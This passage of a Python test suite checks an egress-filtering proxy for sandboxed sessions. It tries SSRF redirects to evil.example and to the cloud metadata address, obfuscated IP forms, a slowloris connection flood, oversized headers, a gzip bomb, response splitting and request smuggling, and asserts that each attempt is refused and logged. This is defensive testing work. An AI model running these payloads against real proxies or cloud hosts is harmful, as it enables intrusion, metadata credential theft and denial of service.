    for to in ("http://evil.example/", f"http://{EVIL}/", f"http://{METADATA}/latest/", "http://127.0.0.1:8088/",
               "http://look.example/shut",
               "http://[::ffff:169.254.169.254]/", "https://evil.example/", "http://2852039166/"):
        for code in ("301", "302", "307", "308"):
            got, status, text = curl(server, s, f"http://web.example/redirect?code={code}&to={to}", "-L")
            check(status != 200, f"{to}: {got} {status} {text[:200]}")
    equal(sorted({h["path"].split("?")[0] for h in internet.NET.hits}), ["/redirect"], "what arrived")


# ---- time


STEADY = """
import os
def plain():
    s = connect('web.example', 80)
    return lambda: (s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n'), everything(s))[1]
def inside(host, trust):
    s = ssl.create_default_context(cafile=trust).wrap_socket(connect(host, 443), server_hostname=host)
    return lambda: (s.sendall(f'GET /echo HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode()), everything(s))[1]
def steady(asks):
    print('ready' if all('sha256' in a() for a in asks) else 'bad', flush=True)
    while not os.path.exists('/tmp/go'):
        time.sleep(0.01)
    out = []
    for a in asks:
        try:
            out.append(a()[:300])
        except OSError as e:
            out.append(name_of(e))
    return out
"""


def test_connection_reuse_after_policy_change(server):
    s = make(server)
    x = server.spawn(s["id"], ["/usr/bin/python3", "-c", TOOLS + STEADY + f"\nshown(steady([plain(), "
                               f"inside('web.example', '{TRUST}'), inside('look.example', None)]))"])
    path = f"/v1/sessions/{s['id']}/executions/{x['id']}/output?stream=stdout"
    wait_for(lambda: b"ready" in server.want(200, "GET", path, raw=True), 15, "three connections that are used")
    before = len(internet.NET.hits)
    put(server, s, policy({"host": "other.example"}))
    sh(server, s, "touch /tmp/go", 0)
    wait_for(lambda: server.execution(x)["ended_at"], 15, "its end")
    got = json.loads(server.want(200, "GET", path, raw=True).decode().splitlines()[-1])
    refused(got, "connections from before")
    equal(len(internet.NET.hits), before, "requests that arrived after the change")
    recorded(server, s, lambda r: r["kind"] == "connect" and "the policy changed" in r.get("reason", ""))


def test_policy_race_at_startup(server):
    """Before the policy is there nothing gets out: attempts begin with the cell's first moment."""
    code = (f"import socket\nn = 0\nfor i in range(60):\n for a in ('{EVIL}', '{METADATA}', '{EVIL6}'):\n"
            "  try:\n   s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET); s.settimeout(2); "
            "s.connect((a, 80)); "
            "s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'); "
            "n += b'sha256' in s.recv(9999)\n  except OSError: pass\nprint(n)")
    for network in ("deny", "none", POLICY, POLICY, POLICY, POLICY):
        s = server.create(network=network)
        x = server.spawn(s["id"], ["/usr/bin/python3", "-c", code])
        if network != POLICY:
            put(server, s, POLICY)
        else:
            for n in range(4):
                put(server, s, policy({"host": f"h{n}.example"}))
        done = wait_for(lambda: (now := server.execution(x))["ended_at"] and now, 30, "its end")
        equal(done["exit_code"], 0, "exit")
        equal(server.want(200, "GET", f"/v1/sessions/{s['id']}/executions/{x['id']}/output?stream=stdout", raw=True),
              b"0\n", "answers it got")
        server.delete(s["id"])


# ---- too much of it


def test_slowloris(server):
    a, b = make(server), make(server)
    x = server.spawn(a["id"], ["/usr/bin/python3", "-c", TOOLS + """
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
held = []
for i in range(600):
    try:
        s = connect('web.example', 80)
        s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: web.example\\r\\nX: ')
        held.append(s)
    except OSError as e:
        break
print('held', len(held), flush=True)
time.sleep(20)
"""], user="root")
    path = f"/v1/sessions/{a['id']}/executions/{x['id']}/output?stream=stdout"
    wait_for(lambda: b"held" in server.want(200, "GET", path, raw=True), 20, "many connections")
    began = time.monotonic()
    check(served(probe(server, b, "get('web.example')")), "another session")
    check(time.monotonic() - began < 3, "another session waits for it")
    equal(len([h for h in internet.NET.hits if h["path"] != "/echo"]), 0, "half requests that arrived")
    server.want(204, "DELETE", f"/v1/sessions/{a['id']}/executions/{x['id']}")
    server.delete(a["id"])


def test_giant_headers(server):
    s = shared(server)
    got = both(server, s, "[get('web.example', more='X: ' + 'a' * n + '\\r\\n') for n in (300000, "
               "3000000)] + [get('web.example', more='X-%d: y\\r\\n' * 1 % 1 * 5000), "
               "get('web.example', '/' + 'a' * 200000), raw('web.example', 80, 'A' * 300000), raw('198.18.0.1', 3128, "
               "'CONNECT ' + 'a' * 200000)]")
    refused(got)
    equal(internet.NET.hits, [], "hits")


def test_header_of_64_kib(server):
    s = shared(server)
    refused(both(server, s,
                 "[get('web.example', more='X: ' + 'a' * 65536 + '\\r\\n'), get('web.example', '/bighead')]"))
    check(" 502 " in probe(server, s, "get('web.example', '/bighead')"), "of a server")


def rss(server):
    with open(f"/proc/{server.pid('cordon-egress')}/status", encoding="ascii") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS:"))


def test_gzip_bomb_in_a_response(server):
    s = make(server, policy({"host": "web.example"}, {"host": "look.example", "paths": ["/**"]}))
    before = rss(server)
    for _ in range(3):
        got = probe(server, s, "[len(get('web.example', '/bomb')), len(tls_get('look.example', '/bomb'))]")
        check(all(10000 < n < 1 << 20 for n in got), f"it arrives as small as it was: {got}")
    check(rss(server) < before + 16384, f"memory of egress: {before} KiB, then {rss(server)} KiB")


def test_response_splitting(server):
    s = shared(server)
    for path in ("/split", "/twolengths"):
        got = probe(server, s, f"get('web.example', '{path}')")
        check(got.startswith("HTTP/1.1 502 ") and "stolen" not in got, f"{path}: {got[:200]}")
    got = probe(server, s, "twice()", before="""
def twice():
    s = connect('web.example', 80)
    out = []
    for path in ('/twoanswers', '/echo'):
        s.sendall(f'GET {path} HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n'.encode())
        out.append(everything(s))
        time.sleep(0.2)
    return out""")
    check(got[0].endswith("one") and "smuggled" not in got[1] and served(got[1]), f"{got}")


def test_everything_refused_is_on_record(server):
    s = shared(server)
    denied = records(server, s, allowed="false")
    check(len(denied) > 50, f"{len(denied)} refusals on record")
    bad = [r for r in denied if not r.get("reason") or r["verdict"] != "deny"]
    equal(bad[:3], [], "refusals without a reason")
    note(f"{len(denied)} refusals on record of the session that most tests share")


if __name__ == "__main__":
    if "PLAIN_PROGRAM" not in os.environ:
        os.environ["PLAIN_PROGRAM"] = os.path.abspath(sys.argv.pop(2))
    PLAIN = os.environ["PLAIN_PROGRAM"]
    internet.enter()
    internet.run_tests(globals(), pool_size=2)
